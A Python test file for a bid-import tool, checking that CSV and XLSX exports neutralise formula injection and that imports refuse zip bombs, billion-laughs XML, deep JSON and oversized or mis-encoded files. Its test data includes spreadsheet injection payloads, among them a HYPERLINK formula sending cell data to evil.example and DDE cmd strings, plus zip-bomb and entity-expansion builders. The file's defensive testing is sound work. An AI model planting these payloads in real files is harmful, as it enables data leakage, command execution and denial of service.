"""Formula injection is neutralised on export; hostile files are refused quickly with a message."""

from __future__ import annotations

import csv
import io
import json
import os
import sys
import zipfile

import openpyxl
import pytest
from tests.refusal_cost import refusal_cost

from clusterbid.core.errors import InputError
from clusterbid.core.interchange import (
    CorruptFileError,
    EncodingError,
    FileTooLargeError,
    UnsafeFileError,
    UnsupportedFormatError,
    export_table_csv,
    export_table_xlsx,
    import_bids,
    limits,
    write_template_csv,
    write_template_xlsx,
    xlsx_guard,
)


def _refusal_cost(path):
    """CPU and memory of refusing `path`, in a child of its own (refusal_cost says why)."""
    setup = "from clusterbid.core.interchange import import_bids"
    return refusal_cost(setup, "import_bids(ARGS[0])", str(path))


HOSTILE_TEXT = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _lf(value):
    """Text with CR read as LF (see the template test); other values unchanged."""
    return value.replace("\r", "\n") if isinstance(value, str) else value


def _sheet_xml(path) -> str:
    with zipfile.ZipFile(path) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode()


def test_template_export_neutralises_formulas_and_import_restores_the_text(tmp_path, bid_factory):
    hostile = [
        bid_factory(f"b{i}", text, quote__reference="+44 20 7946 0000")
        for i, text in enumerate(HOSTILE_TEXT)
    ]
    path = write_template_xlsx(tmp_path / "bids.xlsx", hostile)
    assert "<f>" not in _sheet_xml(path)  # no cell is stored as a formula
    workbook = openpyxl.load_workbook(path)
    sheet = workbook["Bids"]
    providers = [sheet.cell(row=r, column=2) for r in range(2, 2 + len(HOSTILE_TEXT))]
    # Whether a stored CR reads back as CR or LF depends on which XML parser openpyxl picked up
    # first (defusedxml or the standard library); the neutralising quote is what matters.
    assert [_lf(cell.value) for cell in providers] == ["'" + _lf(text) for text in HOSTILE_TEXT]
    assert {cell.data_type for cell in providers} == {"s"}
    assert sheet.cell(row=2, column=7).data_type == "n"  # gpus_offered stays a number
    assert list(import_bids(path).bids)[:-1] == hostile[:-1]

    csv_path = write_template_csv(tmp_path / "bids.csv", hostile)
    rows = list(csv.reader(io.StringIO(csv_path.read_bytes().decode("utf-8-sig"), newline="")))
    assert [row[1] for row in rows[1:]] == ["'" + text for text in HOSTILE_TEXT]
    assert {row[6] for row in rows[1:]} == {"512"}
    assert list(import_bids(csv_path).bids) == hostile


def test_comparison_export_neutralises_text_but_keeps_numbers(tmp_path):
    rows = [{"provider": text, "score": -5, "cost": -1.25} for text in HOSTILE_TEXT]
    rows.append({"provider": "plain", "score": 3, "cost": 2.5})
    xlsx = export_table_xlsx(tmp_path / "cmp.xlsx", rows, "=Round 1")
    assert "<f>" not in _sheet_xml(xlsx)
    sheet = openpyxl.load_workbook(xlsx).active
    assert sheet["A1"].value == "'=Round 1"
    values = [[_lf(c.value) for c in row] for row in sheet.iter_rows(min_row=4)]
    expected = [["'" + _lf(text), -5, -1.25] for text in HOSTILE_TEXT] + [["plain", 3, 2.5]]
    assert values == expected
    assert {c.data_type for row in sheet.iter_rows(min_row=4, min_col=2) for c in row} == {"n"}

    csv_path = export_table_csv(tmp_path / "cmp.csv", rows, "=Round 1")
    lines = list(csv.reader(io.StringIO(csv_path.read_bytes().decode("utf-8-sig"), newline="")))
    assert lines[0] == ["'=Round 1"]
    assert lines[3:] == [["'" + text, "-5", "-1.25"] for text in HOSTILE_TEXT] + [
        ["plain", "3", "2.5"]
    ]


def _bomb(path, member_size: int) -> None:
    """A real XLSX zip whose sheet part decompresses to `member_size` bytes of padding."""
    chunk = b" " * (1024 * 1024)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as stream:
            stream.write(b"<worksheet><sheetData>")
            for _ in range(member_size // len(chunk)):
                stream.write(chunk)
            stream.write(b"</sheetData></worksheet>")


@pytest.mark.parametrize("size_mb", [20, 200])  # the ratio check; the part-size check
def test_xlsx_zip_bomb_is_refused_fast_and_without_memory_growth(tmp_path, size_mb):
    path = tmp_path / "bomb.xlsx"
    _bomb(path, size_mb * 1024 * 1024)
    assert path.stat().st_size < size_mb * 1024 * 1024 / 500  # it really is a bomb
    with pytest.raises(UnsafeFileError, match="bomb") as refused:
        import_bids(path)
    assert "bomb.xlsx" in str(refused.value)
    cost = _refusal_cost(path)
    assert cost.refused_with(UnsafeFileError)
    assert cost.cpu_seconds < 1.0
    assert cost.memory_growth_mib < 100


BILLION_LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
    + "".join(
        f' <!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n'
        for i in range(1, 10)
    )
    + ']>\n<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    '<row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row></sheetData></worksheet>'
)


def _with_part(source, target, name: str, text: str) -> None:
    """Copy an XLSX, replacing (or adding) one part."""
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        for item in old.infolist():
            if item.filename != name:
                new.writestr(item, old.read(item))
        new.writestr(name, text)


def test_xml_entity_expansion_is_refused(tmp_path, bids):
    good = write_template_xlsx(tmp_path / "good.xlsx", bids)
    hostile = tmp_path / "laughs.xlsx"
    _with_part(good, hostile, "xl/worksheets/sheet1.xml", BILLION_LAUGHS)
    with pytest.raises(UnsafeFileError, match="laughs.xlsx.*(entities|DTD)"):
        import_bids(hostile)
    cost = _refusal_cost(hostile)
    assert cost.refused_with(UnsafeFileError) and cost.cpu_seconds < 1.0


def test_defusedxml_refuses_entities_even_without_our_pre_scan(tmp_path, bids, monkeypatch):
    good = write_template_xlsx(tmp_path / "good.xlsx", bids)
    hostile = tmp_path / "laughs.xlsx"
    _with_part(good, hostile, "xl/worksheets/sheet1.xml", BILLION_LAUGHS)
    monkeypatch.setattr(xlsx_guard, "check_no_dtd", lambda path: None)
    with pytest.raises(UnsafeFileError, match="forbidden"):
        import_bids(hostile)


def test_xlsx_import_is_refused_when_defusedxml_is_missing_or_off(tmp_path, bids, monkeypatch):
    path = write_template_xlsx(tmp_path / "bids.xlsx", bids)
    monkeypatch.setitem(sys.modules, "defusedxml", None)  # import defusedxml now raises ImportError
    with pytest.raises(UnsafeFileError, match="defusedxml package is missing"):
        import_bids(path)
    monkeypatch.delitem(sys.modules, "defusedxml")
    monkeypatch.setattr(openpyxl, "DEFUSEDXML", False)
    with pytest.raises(UnsafeFileError, match="not using defusedxml"):
        import_bids(path)


def test_random_bytes_named_xlsx_are_refused(tmp_path):
    path = tmp_path / "bids.xlsx"
    path.write_bytes(os.urandom(50_000))
    with pytest.raises(CorruptFileError, match="bids.xlsx: not an XLSX"):
        import_bids(path)


def test_zip_that_is_not_a_workbook_is_refused(tmp_path):
    path = tmp_path / "notes.xlsx"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("readme.txt", "hello")
    with pytest.raises(CorruptFileError, match="notes.xlsx"):
        import_bids(path)


def test_truncated_xlsx_is_refused(tmp_path, bids):
    good = write_template_xlsx(tmp_path / "good.xlsx", bids)
    cut = tmp_path / "cut.xlsx"
    cut.write_bytes(good.read_bytes()[: good.stat().st_size // 2])
    with pytest.raises(CorruptFileError, match="cut.xlsx"):
        import_bids(cut)


def test_csv_with_a_million_rows_is_refused_quickly(tmp_path):
    path = tmp_path / "huge.csv"
    path.write_text("id,quote.provider\n" + "x,y\n" * 1_000_000, encoding="utf-8")
    with pytest.raises(
        FileTooLargeError, match=f"huge.csv: more than {limits.MAX_BIDS:,} bid rows"
    ):
        import_bids(path)
    cost = _refusal_cost(path)
    assert cost.refused_with(FileTooLargeError) and cost.cpu_seconds < 5.0


@pytest.mark.parametrize("size", [5_000, 1024 * 1024])
def test_csv_cell_too_long_is_refused(tmp_path, size):
    path = tmp_path / "long.csv"
    path.write_text("id,quote.provider\nb1," + "A" * size + "\n", encoding="utf-8")
    with pytest.raises(FileTooLargeError, match="long.csv.*characters"):
        import_bids(path)


def test_xlsx_cell_of_a_megabyte_is_refused(tmp_path, bids, positions_of):
    path = write_template_xlsx(tmp_path / "long.xlsx", bids)
    workbook = openpyxl.load_workbook(path)
    workbook["Bids"].cell(
        row=3, column=positions_of(path)["quote.provider"], value="B" * (1024 * 1024)
    )
    workbook.save(path)
    with pytest.raises(
        FileTooLargeError,
        match=r"long.xlsx: cell B3 in xl/worksheets/sheet1.xml holds over 1,000 characters",
    ):
        import_bids(path)


def test_csv_that_is_not_utf8_is_refused(tmp_path, bids):
    path = tmp_path / "latin1.csv"
    path.write_bytes("id,quote.provider\nb1,Société Générale\n".encode("cp1252"))
    with pytest.raises(EncodingError, match="latin1.csv: not UTF-8"):
        import_bids(path)


def test_hostile_json_is_refused(tmp_path):
    deep = tmp_path / "deep.json"
    deep.write_text("[" * 100_000 + "]" * 100_000)
    with pytest.raises(CorruptFileError, match="deep.json"):
        import_bids(deep)
    broken = tmp_path / "broken.json"
    broken.write_text('[{"id": "a",}]')
    with pytest.raises(CorruptFileError, match="broken.json: not valid JSON"):
        import_bids(broken)
    many = tmp_path / "many.json"
    many.write_text(json.dumps([{}] * (limits.MAX_BIDS + 1)))
    with pytest.raises(FileTooLargeError, match="many.json"):
        import_bids(many)


def test_unsupported_extension_and_missing_file(tmp_path):
    with pytest.raises(UnsupportedFormatError, match="bids.ods"):
        import_bids(tmp_path / "bids.ods")
    with pytest.raises(InputError, match="absent.csv: no such file"):
        import_bids(tmp_path / "absent.csv")


def test_every_kind_of_refusal_reaches_the_officer_as_exit_2_naming_the_file(
    tmp_path, bids, capsys
):
    """One file of each refusal kind through `clusterbid import-bids`: exit 2 (refused input, as the
    README says), the file named, and no traceback."""
    from clusterbid.cli import main

    good = write_template_xlsx(tmp_path / "good.xlsx", bids)
    files = {
        "laughs.xlsx": lambda path: _with_part(
            good, path, "xl/worksheets/sheet1.xml", BILLION_LAUGHS
        ),  # unsafe
        "noise.xlsx": lambda path: path.write_bytes(os.urandom(5_000)),  # corrupt
        "latin1.csv": lambda path: path.write_bytes(
            "id,quote.provider\nb1,Société\n".encode("cp1252")
        ),  # encoding
        "huge.csv": lambda path: path.write_text(
            "id,quote.provider\n" + "x,y\n" * 20_000, encoding="utf-8"
        ),  # size
        "bids.ods": lambda path: path.write_bytes(b"PK"),  # unsupported format
    }
    for name, make in files.items():
        path = tmp_path / name
        make(path)
        assert main(["import-bids", str(path)]) == 2, name
        err = capsys.readouterr().err
        assert name in err and "Traceback" not in err, err


def test_failed_export_leaves_the_old_file_and_no_temporary(tmp_path, bids, monkeypatch):
    path = write_template_csv(tmp_path / "bids.csv", bids)
    before = path.read_bytes()

    def explode(*args, **kwargs):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "replace", explode)
    with pytest.raises(InputError, match="bids.csv: could not be written"):
        write_template_csv(path, bids[:1])
    assert path.read_bytes() == before
    assert [p.name for p in tmp_path.iterdir()] == ["bids.csv"]
